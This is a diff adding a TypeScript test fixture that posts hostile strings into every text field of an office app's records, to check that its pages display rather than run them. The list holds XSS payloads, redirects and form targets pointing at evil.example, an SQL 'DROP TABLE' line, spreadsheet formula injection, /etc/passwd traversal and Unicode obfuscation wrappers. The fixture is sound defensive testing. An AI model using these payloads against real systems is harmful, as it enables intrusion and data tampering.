@@ -1,0 +1,106 @@
+// Texts that a page must show and never obey: markup, addresses that run, templates, formulas, signs that turn or hide what is read; and
+// a world that holds one in every text field.
+import { entities } from '#domain/entities/index.ts'
+import type { Json, Office } from './office.ts'
+
+const marks = [
+  '<img src=x onerror=window.hacked=1>',
+  '"><script>window.hacked=1</script>',
+  "'-alert(1)-'",
+  '<svg onload=alert(1)>',
+  'javascript:alert(1)',
+  '<iframe srcdoc="<script>parent.hacked=1</script>">',
+  '<a href="javascript:alert(1)">ici</a>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${alert(1)}',
+  '</textarea><script>alert(1)</script>',
+  '<style>*{display:none}</style>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href="//evil.example/">',
+  '<form action="//evil.example"><input name=a>',
+  '<object data="data:text/html,<script>alert(1)</script>">',
+  '<details open ontoggle=alert(1)>',
+  '<math><mtext><script>alert(1)</script></mtext></math>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  "'; DROP TABLE task; --",
+  '=HYPERLINK("http://evil.example")',
+  '@SUM(1+1)*cmd|calc',
+  '../../../../etc/passwd',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '__proto__',
+  'constructor',
+] as const
+
+const around: readonly ((text: string) => string)[] = [
+  text => text,
+  text => `\u202e${text}`,
+  text => `${text}\u0000\u200b`,
+  text => text.toUpperCase(),
+  text => `👻 ${text}`,
+  text => `]]>${text}<!--`,
+  text => `\\"${text}`,
+  text => `é\u0301\u0301\u0301 ${text}`,
+]
+
+/** 25 marks × 8 wrappings. */
+const hostileTexts: readonly string[] = around.flatMap(wrap => marks.map(wrap))
+
+const kinds: ReadonlySet<string> = new Set(
+  (
+    'task city sector partner partner_type object object_category resource reason provenance destination outlet container ' +
+    'print_template user role shift_exception'
+  ).split(' '),
+)
+const ROUNDS = 3
+
+/** Three records of each kind, every text field a payload of its own; what the server refuses is left out. How many payloads are in. */
+export const storeHostileTexts = async (
+  office: Office,
+): Promise<{ readonly stored: number; readonly ids: ReadonlyMap<string, string> }> => {
+  const used = new Set<unknown>()
+  const ids = new Map<string, string>()
+  let at = 0
+  const next = (max: number): string => {
+    for (let tried = 0; tried < hostileTexts.length; tried++) {
+      const text = hostileTexts[at++ % hostileTexts.length] ?? ''
+      if (text.length <= max) return text
+    }
+    return '<b>'
+  }
+  const date = new Date().toLocaleDateString('sv-SE', { timeZone: 'Europe/Paris' })
+  const planned = (await office.tasks()).find(
+    task => task['task_type_id'] === 1 && task['date'] === date && task['shift_instance_id'] !== null,
+  )
+  const beside: { readonly [entity: string]: Json | undefined } = {
+    task: {
+      task_type_id: 1,
+      task_state_id: 2,
+      phone1: '03 88 00 00 00',
+      date,
+      ...(planned === undefined ? {} : { shift_instance_id: planned['shift_instance_id'] }),
+    },
+    shift_exception: { date },
+  }
+  for (let round = 0; round < ROUNDS; round++)
+    for (const of of entities.filter(({ name }) => kinds.has(name))) {
+      const texts = Object.entries(of.fields).filter(
+        ([, { type, readonly }]) => /^(text|longText)$/.test(type.kind) && readonly !== true,
+      )
+      const body: { [field: string]: unknown } = {
+        ...Object.fromEntries(texts.map(([name, { type }]) => [name, next(type.max ?? 60)])),
+        ...beside[of.name],
+      }
+      for (let tried = 0; tried < 3 && !ids.has(`${of.name} ${round}`); tried++) {
+        const answer = await office.post(`/${of.name}`, body)
+        const refused = Object.keys((answer.body['validation_messages'] ?? {}) as object)
+        if (answer.status >= 300 && refused.length === 0)
+          throw new Error(`${of.name}: ${answer.status} ${JSON.stringify(answer.body)}`)
+        for (const name of refused) delete body[name]
+        if (answer.status >= 300) continue
+        ids.set(`${of.name} ${round}`, String(answer.body['id']))
+        ids.set(of.name, String(answer.body['id']))
+        for (const value of Object.values(body)) used.add(value)
+      }
+    }
+  return { stored: hostileTexts.filter(text => used.has(text)).length, ids }
+}
